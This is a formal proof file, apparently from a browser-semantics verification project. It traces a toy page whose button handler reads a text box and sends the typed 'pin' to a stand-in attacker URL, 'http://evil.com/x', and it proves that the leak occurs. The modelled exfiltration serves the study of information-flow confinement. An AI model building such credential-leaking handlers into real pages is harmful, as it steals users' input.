-- The trace of the leak: a click whose script sends what the user typed.
use Rattle.std.proofs.Common.{◌≡◌, ℕ, suc, ◌≤◌, true, Some, List, [], ◌∷◌, refl, ap, ◌∙◌}
use Rattle.std.specs.Prelude.{codes}
use Rattle.std.specs.Ordering.{nat_cmp}
use Rattle.std.specs.Cmp.Lexicographic.{slice_cmp}
use Rattle.std.specs.FinMap as finmap
use Rattle.std.specs.FinSet as finset
use Rattle.ff_confinement.specs.Runs.{plain}
use Rattle.ff_name.specs.Reading.{read_url}
use Rattle.ff_tree.specs.declared.op.Op.TheVariants as op
use Rattle.ff_value.specs.Weight.{resp_weight}
use Rattle.ff_value.specs.declared.output.Out.{Out}
use Rattle.ff_value.specs.declared.reply.Resp.TheVariants as resp
use Rattle.ff_value.specs.declared.value.Code.{Code}
use Rattle.ff_value.specs.declared.value.Val.{Val}
use Rattle.ff_value.specs.declared.value.Val.TheVariants as val
use Rattle.ff_term.specs.Running.{Running, Done, Make, Prim, Inside, none, more, call_of}
use Rattle.ff_term.specs.Whole.{whole}
use Rattle.ff_term.proofs.Forms.{whole-Lit, whole-Make, whole-Prim}
use Rattle.ff_machine.specs.declared.records.Pending.{Pending}
use Rattle.ff_machine.specs.declared.records.Dst.TheVariants as dst
use Rattle.ff_machine.specs.declared.records.Shape.TheVariants as shape
use Rattle.ff_machine.specs.Nodes.{Node, Walk, root, shown}
use Rattle.ff_machine.specs.Net.{Requests, with_ask}
use Rattle.ff_machine.specs.Windows.{Activation}
use Rattle.ff_machine.specs.Documents.{Laid, laid_page, lay_leaf}
use Rattle.ff_machine.specs.Stores as stores
use Rattle.ff_machine.specs.Stores.{Stores, Pages, has_load_room}
use Rattle.ff_machine.specs.State.{State, empty, lifted}
use Rattle.ff_machine.specs.Inputs.{begin}
use Rattle.ff_machine.specs.Turns.{turn}
use Rattle.ff_machine.specs.Reduction.{Red, reduction}
use Rattle.ff_machine.specs.Machine.{reactor, browser}
use Rattle.ff_machine.specs.Traces.{home, opening, replying, opened, loaded, updated, send_to, null, evil_com, asks_text, sends_text, leaky, leaky_shown, typing, clicking, leak, without_typing}
use Rattle.ff_machine.proofs.Numbers as amount
use Rattle.ff_machine.proofs.Derived.{rest, turned, handled, ran}
use Rattle.ff_machine.proofs.Given.{root_of, leaf, waiting, answered, with_home, busy, between, running, resting, activation, node, page, win, settling, runs_from}
use Rattle.ff_machine.proofs.Maps.{no_pairs, room_first, touched_none, touched_last}
use Rattle.ff_machine.proofs.Laying.{laid-TextBox, laid-Button, handler-code}
use Rattle.ff_machine.proofs.Weights.{weight-TextBox, weight-Button, weight-Handler, weight-Lit, weight-Make, weight-Prim}
use Rattle.ff_machine.proofs.Worked.{handles_opening, loads_page, loaded_tree, lays, under_root}

-- The page: a box b, and a button g whose handler asks.

-- the handler's function
abbrev code : Code
code = record { params = codes "n" ∷ []; body = asks_text; env = activation 1 }

-- with a text in the box
abbrev nodes : List ℕ → List Node
nodes text =
    root_of (node 2 ∷ node 3 ∷ []) ∷ leaf (shape.TextBox (codes "b") text)
    ∷ record { shape = shape.Button (codes "g") (codes "go"); handlers = code ∷ []; children = []; parent = Some (node 1) } ∷ []

abbrev at : List ℕ → List Activation → Requests → ℕ → Pages → Stores
at text acts requests mass touched = with_home evil_com (nodes text) 0 [] acts requests mass touched

weight_leaky : resp_weight (resp.Page [] leaky) ≡ 532
weight_leaky = simp (weight-TextBox, weight-Button, weight-Handler, weight-Prim, weight-Make, weight-Lit) refl

abbrev tree : Laid
tree = under_root (lay_leaf (shape.TextBox (codes "b") []) [] ∷ lay_leaf (shape.Button (codes "g") (codes "go")) (code ∷ []) ∷ [])

lays_leaky : laid_page (page 1) (activation 1) leaky ≡ tree
lays_leaky = rw (laid-TextBox (activation 1) (codes "b") [] [], laid-Button (activation 1) (codes "g") (codes "go") (sends_text ∷ []), handler-code (activation 1) (codes "n") asks_text) refl

room_leaky : has_load_room (answered evil_com 532) leaky ≡ true
room_leaky = rw (laid-TextBox (activation 1) (codes "b") [] [], laid-Button (activation 1) (codes "g") (codes "go") (sends_text ∷ [])) refl

abbrev page_lines : List Out
page_lines = loaded evil_com (leaky_shown []) ∷ []

shows_tree : loaded_tree evil_com 532 tree ≡ record { outputs = page_lines; after = at [] [] finmap.empty 532 finset.empty }
unfolding Walk shown
shows_tree = refl

shows_leaky : stores.loaded (answered evil_com 532) (win 0) (home evil_com) leaky ≡ record { outputs = page_lines; after = at [] [] finmap.empty 532 finset.empty }
shows_leaky = lays evil_com 532 leaky tree lays_leaky ∙ shows_tree

-- `click 0 0`: the handler's call, and what stands for it after each turn.

abbrev asking : Running → Running → Running
asking text callback = Inside (activation 2) (Prim op.Ask (more (Done (val.Str (codes "http://evil.com/x"))) (more text (more callback none))))

abbrev text_in : Running → Running
text_in where_to = Prim op.Text (more (Prim op.Find (more where_to (more (Done (val.Str (codes "b"))) none))) none)

abbrev page_of : Running → Running
page_of window = Prim op.Page (more window none)

abbrev self_window : Running
self_window = Prim op.SelfWindow none

abbrev making : Running
making = Make (codes "r" ∷ []) null

abbrev callback : Code
callback = record { params = codes "r" ∷ []; body = null; env = activation 2 }

whole_asks : whole asks_text ≡ Prim op.Ask (more (Done (val.Str (codes "http://evil.com/x"))) (more (text_in (page_of self_window)) (more making none)))
whole_asks = simp (whole-Prim, whole-Lit, whole-Make) refl

-- the activation of the call
abbrev called : Activation
called = record { parent = Some (activation 1); vars = finmap.from_entries ((codes "n", val.Node (node 3)) ∷ []) }

abbrev for_callback : Pending
for_callback = record { uri = codes "/x"; dst = dst.Call (page 1) callback }

module _ (text : List ℕ) (mass budget : ℕ) where
  abbrev before : Stores
  before = at text [] finmap.empty mass finset.empty

  abbrev inside : Stores
  inside = at text (called ∷ []) finmap.empty mass finset.empty

  abbrev after : Stores
  after = at text (called ∷ []) (with_ask finmap.empty evil_com for_callback) mass finset.empty

  clicks : begin (resting budget before) clicking ≡ record { outputs = []; after = running budget budget before (call_of code (val.Node (node 3))) }
  unfolding begin Walk
  clicks = refl

  module _ (k : ℕ) where
    calls : turn (running budget (suc k) before (call_of code (val.Node (node 3)))) ≡ record { outputs = []; after = running budget k inside (asking (text_in (page_of self_window)) making) }
    unfolding turn Red reduction
    calls = rw (finmap.len-empty (slice_cmp nat_cmp) Val, whole_asks) refl

    finds_window : turn (running budget (suc k) inside (asking (text_in (page_of self_window)) making)) ≡ record { outputs = []; after = running budget k inside (asking (text_in (page_of (Done (val.Win (win 0))))) making) }
    unfolding turn Red reduction
    finds_window = refl

    finds_root : turn (running budget (suc k) inside (asking (text_in (page_of (Done (val.Win (win 0))))) making)) ≡ record { outputs = []; after = running budget k inside (asking (text_in (Done (val.Node (node 1)))) making) }
    unfolding turn Red reduction
    finds_root = refl

    finds_box : turn (running budget (suc k) inside (asking (text_in (Done (val.Node (node 1)))) making)) ≡ record { outputs = []; after = running budget k inside (asking (Prim op.Text (more (Done (val.Node (node 2))) none)) making) }
    unfolding turn Red reduction Walk
    finds_box = refl

    reads_text : turn (running budget (suc k) inside (asking (Prim op.Text (more (Done (val.Node (node 2))) none)) making)) ≡ record { outputs = []; after = running budget k inside (asking (Done (val.Str text)) making) }
    unfolding turn Red reduction
    reads_text = refl

    makes : turn (running budget (suc k) inside (asking (Done (val.Str text)) making)) ≡ record { outputs = []; after = running budget k inside (asking (Done (val.Str text)) (Done (val.Code callback))) }
    unfolding turn Red reduction
    makes = refl

    sends : turn (running budget (suc k) inside (asking (Done (val.Str text)) (Done (val.Code callback)))) ≡ record { outputs = send_to evil_com (codes "/x") text ∷ []; after = running budget k after (Inside (activation 2) (Done val.Null)) }
    unfolding turn Red reduction read_url
    sends = rw (room_first evil_com, no_pairs evil_com) refl

    leaves : turn (running budget (suc k) after (Inside (activation 2) (Done val.Null))) ≡ record { outputs = []; after = running budget k after (Done val.Null) }
    unfolding turn Red reduction
    leaves = refl

    ends : turn (running budget (suc k) after (Done val.Null)) ≡ record { outputs = []; after = between budget k after }
    unfolding turn Red reduction
    ends = refl

    settles : turn (between budget k after) ≡ record { outputs = []; after = resting budget after }
    unfolding turn
    settles = rw (touched_none 1) refl

-- the page was loaded, or what was typed was shown
settles_before : (text : List ℕ) (mass budget : ℕ) → turn (busy budget (before text mass budget)) ≡ record { outputs = []; after = resting budget (before text mass budget) }
unfolding turn
settles_before text mass budget = rw (touched_none 1) refl

-- `type 0 0 "pin"`

abbrev typed : Stores
typed = at (codes "pin") [] finmap.empty 535 (finset.insert finset.empty 1)

types : (budget : ℕ) → begin (resting budget (before [] 532 budget)) typing ≡ record { outputs = []; after = busy budget typed }
unfolding begin Walk root
types budget = refl

updates : (budget : ℕ) → turn (busy budget typed) ≡ record { outputs = updated (leaky_shown (codes "pin")) ∷ []; after = resting budget (before (codes "pin") 535 budget) }
unfolding turn shown
updates budget = rw (touched_last finset.empty 1 refl) refl

module _ (n : ℕ) where
  abbrev nine : ℕ
  nine = amount.more 9 n

  -- the window waits for its page
  abbrev waits : State
  waits = resting nine (waiting evil_com)

  -- the page is there, and nothing was typed
  abbrev untouched : State
  untouched = resting nine (before [] 532 nine)

  -- the text was typed
  abbrev has_text : State
  has_text = resting nine (before (codes "pin") 535 nine)

  handles_leaky : (settling nine).handle waits (replying evil_com leaky) ≡ record { outputs = page_lines; after = untouched; turns = 1 }
  handles_leaky =
      let r = reactor nine in
      handled r (suc nine) waits (busy nine (before [] 532 nine)) untouched (replying evil_com leaky) page_lines [] 1
      (loads_page evil_com nine 532 leaky weight_leaky refl room_leaky ∙ ap (lifted (busy nine (answered evil_com 532))) shows_leaky)
      (turned r nine (busy nine (before [] 532 nine)) untouched untouched [] [] 0 refl (settles_before [] 532 nine) (rest r nine untouched refl))

  handles_typing : (settling nine).handle untouched typing ≡ record { outputs = updated (leaky_shown (codes "pin")) ∷ []; after = has_text; turns = 1 }
  handles_typing =
      let r = reactor nine in
      let os = updated (leaky_shown (codes "pin")) ∷ [] in
      handled r (suc nine) untouched (busy nine typed) has_text typing [] os 1 (types nine)
      (turned r nine (busy nine typed) has_text has_text os [] 0 refl (updates nine) (rest r nine has_text refl))

  -- the click takes ten turns, nine of which spend fuel
  handles_click : (text : List ℕ) (mass : ℕ) → (settling nine).handle (resting nine (before text mass nine)) clicking ≡ record { outputs = send_to evil_com (codes "/x") text ∷ []; after = resting nine (after text mass nine); turns = 10 }
  handles_click text mass =
      let r = reactor nine in
      let os = send_to evil_com (codes "/x") text ∷ [] in
      let end = resting nine (after text mass nine) in
      handled r (suc nine) (resting nine (before text mass nine)) _ end clicking [] os 10 (clicks text mass nine)
      (turned r nine _ _ end [] os 9 refl (calls text mass nine (amount.more 8 n))
      (turned r (amount.more 8 n) _ _ end [] os 8 refl (finds_window text mass nine (amount.more 7 n))
      (turned r (amount.more 7 n) _ _ end [] os 7 refl (finds_root text mass nine (amount.more 6 n))
      (turned r (amount.more 6 n) _ _ end [] os 6 refl (finds_box text mass nine (amount.more 5 n))
      (turned r (amount.more 5 n) _ _ end [] os 5 refl (reads_text text mass nine (amount.more 4 n))
      (turned r (amount.more 4 n) _ _ end [] os 4 refl (makes text mass nine (amount.more 3 n))
      (turned r (amount.more 3 n) _ _ end os [] 3 refl (sends text mass nine (amount.more 2 n))
      (turned r (amount.more 2 n) _ _ end [] [] 2 refl (leaves text mass nine (amount.more 1 n))
      (turned r (amount.more 1 n) _ _ end [] [] 1 refl (ends text mass nine n)
      (turned r n _ end end [] [] 0 refl (settles text mass nine n) (rest r n end refl)))))))))))

  sends_typed : plain (settling nine) leak.inputs ≡ leak.outputs
  unfolding plain
  sends_typed =
      let m = settling nine in
      let shown = updated (leaky_shown (codes "pin")) ∷ [] in
      let sent = send_to evil_com (codes "/x") (codes "pin") ∷ [] in
      ran m (empty nine) waits (opening evil_com) (replying evil_com leaky ∷ typing ∷ clicking ∷ []) (opened evil_com) (page_lines ∷ shown ∷ sent ∷ []) 1 (handles_opening evil_com nine)
      (ran m waits untouched (replying evil_com leaky) (typing ∷ clicking ∷ []) page_lines (shown ∷ sent ∷ []) 1 handles_leaky
      (ran m untouched has_text typing (clicking ∷ []) shown (sent ∷ []) 1 handles_typing
      (ran m has_text (resting nine (after (codes "pin") 535 nine)) clicking [] sent [] 10 (handles_click (codes "pin") 535) refl)))

  sends_nothing : plain (settling nine) without_typing.inputs ≡ without_typing.outputs
  unfolding plain
  sends_nothing =
      let m = settling nine in
      let sent = send_to evil_com (codes "/x") [] ∷ [] in
      ran m (empty nine) waits (opening evil_com) (replying evil_com leaky ∷ clicking ∷ []) (opened evil_com) (page_lines ∷ sent ∷ []) 1 (handles_opening evil_com nine)
      (ran m waits untouched (replying evil_com leaky) (clicking ∷ []) page_lines (sent ∷ []) 1 handles_leaky
      (ran m untouched (resting nine (after [] 532 nine)) clicking [] sent [] 10 (handles_click [] 532) refl))

-- what was typed is sent
pub the_leak : (fuel : ℕ) → 9 ≤ fuel → plain (browser fuel) leak.inputs ≡ leak.outputs
the_leak fuel enough = runs_from 9 leak sends_typed fuel enough

-- a copy that doesn't see the typing sends an empty text in its place
pub no_leak : (fuel : ℕ) → 9 ≤ fuel → plain (browser fuel) without_typing.inputs ≡ without_typing.outputs
no_leak fuel enough = runs_from 9 without_typing sends_nothing fuel enough
